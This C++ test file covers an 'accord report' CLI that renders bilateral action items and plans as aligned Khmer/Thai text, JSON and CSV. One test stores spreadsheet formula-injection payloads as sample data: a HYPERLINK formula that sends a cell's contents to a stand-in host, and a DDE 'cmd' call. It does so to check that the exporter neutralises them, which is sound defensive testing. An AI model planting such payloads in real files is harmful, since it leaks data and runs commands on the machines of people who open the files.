// `accord report` as a secretariat runs it before a meeting, on the sample
// data: aligned text (Khmer and Thai included), JSON for scripts, CSV for a
// spreadsheet; bad usage exits 2 and changes nothing.
#include <gtest/gtest.h>

#include <algorithm>
#include <map>
#include <nlohmann/json.hpp>
#include <sstream>

#include "core/display_width.h"
#include "tests/cli_support.h"
#include "tests/test_support.h"

namespace accord {
namespace {

using nlohmann::json;
using testing::Accord;
using testing::CommandResult;
using testing::TempDir;

class ReportCliTest : public ::testing::Test {
 protected:
  void SetUp() override {
    node = dir.File("node");
    ASSERT_EQ(Accord(node, {"init", "--node-id", "KH-NCCT"}).code, 0);
    ASSERT_EQ(Accord(node, {"load", SAMPLE_DATA}).code, 0);
  }
  TempDir dir;
  std::string node;
};

std::vector<std::string> Lines(const std::string& text) {
  std::vector<std::string> lines;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) {
    if (!line.empty() && line.back() == '\r') line.pop_back();
    lines.push_back(line);
  }
  return lines;
}

// The display column where `needle` starts in `line` (-1 when absent).
int ColumnOf(const std::string& line, const std::string& needle) {
  size_t at = line.find(needle);
  return at == std::string::npos ? -1 : DisplayWidth(line.substr(0, at));
}

// A minimal RFC 4180 reader: quoted fields with commas, quotes and line breaks.
std::vector<std::vector<std::string>> ParseCsv(const std::string& text) {
  std::vector<std::vector<std::string>> rows(1);
  std::string field;
  bool quoted = false;
  for (size_t i = 0; i < text.size(); ++i) {
    char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        field += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      rows.back().push_back(field);
      field.clear();
    } else if (c == '\r') {
    } else if (c == '\n') {
      rows.back().push_back(field);
      field.clear();
      rows.emplace_back();
    } else {
      field += c;
    }
  }
  if (rows.back().empty()) rows.pop_back();
  return rows;
}

TEST_F(ReportCliTest, ActionsAsJsonNameTheDueWordsTheDateAndTheLastReview) {
  CommandResult r = Accord(node, {"report", "actions", "--today", "2023-07-01", "--json"});
  ASSERT_EQ(r.code, 0);
  json out = json::parse(r.out);
  EXPECT_EQ(out["today"], "2023-07-01");
  json seminar, list;
  for (const json& item : out["action_items"]) {
    if (item["id"] == "ai-2022-08-26-1.4") seminar = item;
    if (item["id"] == "ai-2023-02-10-1") list = item;
  }
  ASSERT_FALSE(seminar.is_null());
  EXPECT_EQ(seminar["due"]["text"], "End of November in Cambodia (date TBC)");
  EXPECT_EQ(seminar["due"]["date"], "2022-11-30");
  EXPECT_EQ(seminar["due"]["precision"], "month");
  EXPECT_EQ(seminar["last_reviewed"]["record"], "dec-2023-01-18-7.2");
  EXPECT_EQ(seminar["overdue"], false);
  ASSERT_FALSE(list.is_null());
  EXPECT_EQ(list["due"]["text"], "មុនថ្ងៃទី២៨ ខែកុម្ភៈ ឆ្នាំ២០២៣");
  EXPECT_EQ(list["overdue"], true);
  EXPECT_EQ(list["last_reviewed"]["meeting"], "mtg-2023-03-15-sakaeo");

  json overdue = json::parse(
      Accord(node, {"report", "actions", "--overdue", "--today", "2023-07-01", "--json"}).out);
  ASSERT_FALSE(overdue["action_items"].empty());
  for (const json& item : overdue["action_items"]) EXPECT_EQ(item["overdue"], true) << item["id"];
  json thai = json::parse(Accord(node, {"report", "actions", "--party", "TH", "--open", "--meeting",
                                        "mtg-2023-06-14-poipet", "--today", "2023-07-01", "--json"})
                              .out);
  ASSERT_EQ(thai["action_items"].size(), 1u);
  EXPECT_EQ(thai["action_items"][0]["due"]["precision"], "next_meeting");
  EXPECT_TRUE(thai["action_items"][0]["due"]["date"].is_null());
}

TEST_F(ReportCliTest, ActionsAsTextLineUpInKhmerAndThai) {
  CommandResult r = Accord(node, {"report", "actions", "--today", "2023-07-01"});
  ASSERT_EQ(r.code, 0);
  std::vector<std::string> lines = Lines(r.out);
  // The Sa Kaeo meeting: one Thai item under its header row.
  size_t header = 0;
  for (size_t i = 0; i < lines.size(); ++i) {
    if (lines[i].find("(mtg-2023-03-15-sakaeo)") != std::string::npos) header = i + 1;
  }
  ASSERT_GT(header, 0u) << r.out;
  const std::string& columns = lines.at(header);
  const std::string& item = lines.at(header + 1);
  EXPECT_NE(item.find("ภายในวันที่ 31 มีนาคม 2566"), std::string::npos) << item;
  EXPECT_NE(item.find("2023-03-31"), std::string::npos) << item;
  EXPECT_NE(item.find("in_progress, OVERDUE"), std::string::npos) << item;
  // Columns after Thai and Khmer cells start where their headings do.
  EXPECT_EQ(ColumnOf(item, "2023-03-31"), ColumnOf(columns, "DUE"));
  EXPECT_EQ(ColumnOf(item, "ภายใน"), ColumnOf(columns, "AS AGREED"));
  EXPECT_EQ(ColumnOf(item, "2023-06-14"), ColumnOf(columns, "LAST REVIEWED"));
  EXPECT_EQ(ColumnOf(item, "กองต่อต้าน"), ColumnOf(columns, "OWNER"));
  EXPECT_EQ(ColumnOf(item, "ส่งแบบ"), ColumnOf(columns, "ACTION"));
}

TEST_F(ReportCliTest, ActionsAsCsvOneRowPerItemWithTheWordsKept) {
  CommandResult r = Accord(node, {"report", "actions", "--today", "2023-07-01", "--csv"});
  ASSERT_EQ(r.code, 0);
  auto rows = ParseCsv(r.out);
  ASSERT_GT(rows.size(), 10u);
  const std::vector<std::string>& head = rows[0];
  auto col = [&](const std::string& name) {
    return static_cast<size_t>(std::find(head.begin(), head.end(), name) - head.begin());
  };
  ASSERT_LT(col("last_reviewed_record"), head.size());
  bool found = false;
  for (const auto& row : rows) {
    ASSERT_EQ(row.size(), head.size());
    if (row[0] != "ai-2022-08-26-1.1") continue;
    found = true;
    EXPECT_EQ(row[col("action")],
              "Assign focal points and relevant members of the \"Central Cooperation Center "
              "(CCC)\"");
    EXPECT_EQ(row[col("due_text")], "By end of October 2022");
    EXPECT_EQ(row[col("due_date")], "2022-10-31");
    EXPECT_EQ(row[col("overdue")], "yes");
  }
  EXPECT_TRUE(found);
}

// An action typed (or synced from another office) as a formula opens in a
// spreadsheet as text: the cell gets a leading quote (OWASP, CSV injection).
TEST_F(ReportCliTest, CsvCellsThatStartAsAFormulaAreOpenedAsText) {
  const std::vector<std::pair<std::string, std::string>> typed = {
      {"ai-2022-08-26-1.1", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"ចុចទីនេះ\")"},
      {"ai-2022-08-26-1.2", "+66 2 123 4567 โทรหาผู้ประสานงาน"},
      {"ai-2022-08-26-1.3", "-ផ្ទៀងផ្ទាត់បញ្ជី"},
      {"ai-2022-08-26-1.4", "@SUM(1+1)*cmd|' /C calc'!A0"},
      {"ai-2023-01-16-9.1", "-15"},
  };
  for (const auto& [id, action] : typed) {
    ASSERT_EQ(Accord(node, {"put", "action_item", "--id", id, "action=" + action}).code, 0) << id;
  }
  CommandResult r = Accord(node, {"report", "actions", "--today", "2023-07-01", "--csv"});
  ASSERT_EQ(r.code, 0);
  auto rows = ParseCsv(r.out);
  ASSERT_GT(rows.size(), 1u);
  const auto& head = rows[0];
  size_t action = static_cast<size_t>(std::find(head.begin(), head.end(), "action") - head.begin());
  ASSERT_LT(action, head.size());
  std::map<std::string, std::string> shown;
  for (const auto& row : rows) shown[row[0]] = row[action];
  for (size_t i = 0; i < 4; ++i) {
    EXPECT_EQ(shown[typed[i].first], "'" + typed[i].second) << typed[i].first;
  }
  EXPECT_EQ(shown["ai-2023-01-16-9.1"], "-15") << "a plain number stays a number";
}

TEST_F(ReportCliTest, PlanAsTextJsonAndCsvShowsEachPartysAssessment) {
  CommandResult text = Accord(node, {"report", "plan", "plan-khth-2023"});
  ASSERT_EQ(text.code, 0);
  // Objectives, then activities, then targets per year, then assessments.
  size_t objective = text.out.find("Objective 3");
  size_t activity = text.out.find("Activity 3.3", objective);
  size_t targets = text.out.find("targets per year", activity);
  size_t khmer = text.out.find("បានរៀបចំកិច្ចប្រជុំគ្រប់គ្រងករណីចំនួន ១", targets);
  size_t thai = text.out.find("จัดการประชุมการจัดการรายกรณีร่วมแล้ว", targets);
  ASSERT_NE(objective, std::string::npos) << text.out;
  ASSERT_NE(activity, std::string::npos);
  ASSERT_NE(targets, std::string::npos);
  ASSERT_NE(khmer, std::string::npos);
  ASSERT_NE(thai, std::string::npos);
  // The two assessment rows start their narratives in the same column.
  std::vector<std::string> lines = Lines(text.out);
  int khmer_column = -1, thai_column = -1;
  for (const std::string& line : lines) {
    if (line.find("បានរៀបចំកិច្ចប្រជុំគ្រប់គ្រងករណីចំនួន ១") != std::string::npos) {
      khmer_column = ColumnOf(line, "បាន");
    }
    if (line.find("จัดการประชุมการจัดการรายกรณีร่วมแล้ว") != std::string::npos) {
      thai_column = ColumnOf(line, "จัด");
    }
  }
  EXPECT_GT(khmer_column, 0);
  EXPECT_EQ(khmer_column, thai_column);

  json plan = json::parse(Accord(node, {"report", "plan", "plan-khth-2023", "--json"}).out);
  EXPECT_EQ(plan["plan"]["id"], "plan-khth-2023");
  EXPECT_EQ(plan["assessing_parties"], json::array({"KH", "TH"}));
  json meetings;
  for (const json& a : plan["objectives"][2]["activities"]) {
    if (a["number"] == "3.3") meetings = a;
  }
  ASSERT_FALSE(meetings.is_null());
  EXPECT_EQ(meetings["targets"][2]["year"], "2025");
  ASSERT_EQ(meetings["assessments"].size(), 2u);
  EXPECT_EQ(meetings["assessments"][0]["party"], "KH");
  EXPECT_EQ(meetings["assessments"][1]["status"], "completed");

  CommandResult csv = Accord(node, {"report", "plan", "plan-khth-2023", "--csv"});
  ASSERT_EQ(csv.code, 0);
  auto rows = ParseCsv(csv.out);
  const std::vector<std::string>& head = rows.at(0);
  EXPECT_EQ(head.back(), "TH_narrative");
  auto col = [&](const std::string& name) {
    return static_cast<size_t>(std::find(head.begin(), head.end(), name) - head.begin());
  };
  bool found = false;
  for (const auto& row : rows) {
    ASSERT_EQ(row.size(), head.size());
    if (row[col("activity_id")] != "act-khth-2023-3.3") continue;
    found = true;
    EXPECT_EQ(row[col("KH_status")], "in_progress");
    EXPECT_EQ(row[col("TH_status")], "completed");
    EXPECT_EQ(row[col("targets_per_year")], "2023: 1 meeting; 2024: 1 meeting; 2025: 1 meeting");
  }
  EXPECT_TRUE(found);
}

TEST_F(ReportCliTest, BadUsageExitsTwoAndAMissingPlanOne) {
  EXPECT_EQ(Accord(node, {"report"}).code, 2);
  EXPECT_EQ(Accord(node, {"report", "actions", "--today", "30/11/2024"}).code, 2);
  EXPECT_EQ(Accord(node, {"report", "actions", "--json", "--csv"}).code, 2);
  EXPECT_EQ(Accord(node, {"report", "plan"}).code, 2);
  EXPECT_EQ(Accord(node, {"report", "plan", "plan-nowhere"}).code, 1);
  for (std::vector<std::string> args : {std::vector<std::string>{"report", "--help"},
                                        {"report", "actions", "--help"},
                                        {"report", "plan", "--help"}}) {
    CommandResult r = Accord(node, args);
    EXPECT_EQ(r.code, 0) << args.back();
    EXPECT_NE(r.out.find("Usage"), std::string::npos);
  }
}

}  // namespace
}  // namespace accord
